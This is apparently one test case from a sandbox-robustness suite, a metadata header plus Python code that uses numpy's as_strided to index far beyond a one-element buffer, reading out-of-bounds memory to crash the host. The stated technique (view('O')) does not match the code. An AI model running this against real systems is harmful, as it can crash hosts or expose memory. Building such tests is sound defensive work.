# id: 545
# name: numpy_view_as_objects
# category: interpreter
# technique: ndarray.view('O') of numbers
# breach: host_dead
# looks_like: memory beyond the array is read
# imports: numpy
# baseline: inproc
import numpy as np
a = np.array([8, 8], dtype='u8')
b = np.lib.stride_tricks.as_strided(np.array([0]), shape=(1 << 40,))
print('BREACH', b[1 << 38])
